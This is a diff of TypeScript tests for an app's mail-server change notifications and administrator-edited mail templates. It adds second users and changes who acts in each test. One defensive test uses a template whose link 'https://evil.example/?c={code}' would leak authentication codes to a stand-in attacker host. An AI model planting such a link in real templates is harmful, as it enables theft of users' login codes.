@@ -78,28 +78,29 @@ test('every ROOT is told of a change by the mail server before it, also when a R
   await setServer(root, old)
   expect(await other(endpoints.listMailChanges, {})).toMatchObject([{ what: 'server', changed_by: root.email, role_id: 1 }])
   for (const { email } of [root, other]) await old.mailTo(email)
-  await setServer(root, next)
-  for (const { email } of [root, other]) expect((await old.mailTo(email)).text).toContain(root.email)
+  await setServer(other, next)
+  for (const { email } of [root, other]) expect((await old.mailTo(email)).text).toContain(other.email)
   expect(next.received).toEqual([])
 
-  const [change] = await other(endpoints.listMailChanges, {})
+  const [change] = await root(endpoints.listMailChanges, {})
+  await root(endpoints.acknowledgeMailChanges, { body: { up_to: change!.id } })
   expect(await root(endpoints.listMailChanges, {})).toEqual([])
-  await other(endpoints.acknowledgeMailChanges, { body: { up_to: change!.id } })
-  expect(await other(endpoints.listMailChanges, {})).toEqual([])
-  await root(endpoints.deleteMailSettings, {})
-  expect(await other(endpoints.listMailChanges, {})).toHaveLength(1)
+  await other(endpoints.deleteMailSettings, {})
+  expect(await root(endpoints.listMailChanges, {})).toMatchObject([{ changed_by: other.email }])
+  // The second change by the same member within ten minutes is told in the console alone.
+  expect(await outboxOf(root)).toHaveLength(4)
 })
 
 test('a template of an ADMIN carries no code to a ROOT, by whichever call it was saved, until a ROOT confirms it', async () => {
   await using smtp = await startSmtp()
   await using server = await startTestServer({ SMTP_URL: smtp.url })
-  const [admin, root] = [await server.signIn('ADMIN'), await server.signIn('ROOT')]
+  const [admin, second, root] = [await server.signIn('ADMIN'), await server.signIn('ADMIN'), await server.signIn('ROOT')]
   const words = { subject: 'Code', body: 'https://evil.example/?c={code}' }
   const body = { ja: words, en: words }
   const value = JSON.stringify(body)
   for (const save of [
     () => admin(endpoints.putMailTemplate, { params: { name: 'authentication' }, body }),
-    () => admin(endpoints.postUserConfig, { body: [{ key: 'notify_password_authentication', value }] }),
+    () => second(endpoints.postUserConfig, { body: [{ key: 'notify_password_authentication', value }] }),
   ]) {
     await save()
     expect((await smtp.mailTo(root.email)).subject).toBe('[Simdeck] A mail template was changed')
@@ -145,9 +146,9 @@ test('an application that is called like a link does not stand in the mails of m
 test('a server that no mail goes by any more is deleted with its password once nothing waits for it', async () => {
   await using old = await startSmtp()
   await using server = await startTestServer()
-  const root = await server.signIn('ROOT')
+  const [root, other] = [await server.signIn('ROOT'), await server.signIn('ROOT')]
   await root(endpoints.putMailSettings, { body: { ...settingsOf(old), username: '' } })
-  await root(endpoints.deleteMailSettings, {})
+  await other(endpoints.deleteMailSettings, {})
   await old.mailTo(root.email)
   const { MailServers } = await import('./mail-servers.ts')
   const { Sealer } = await import('../../crypto/seal.ts')
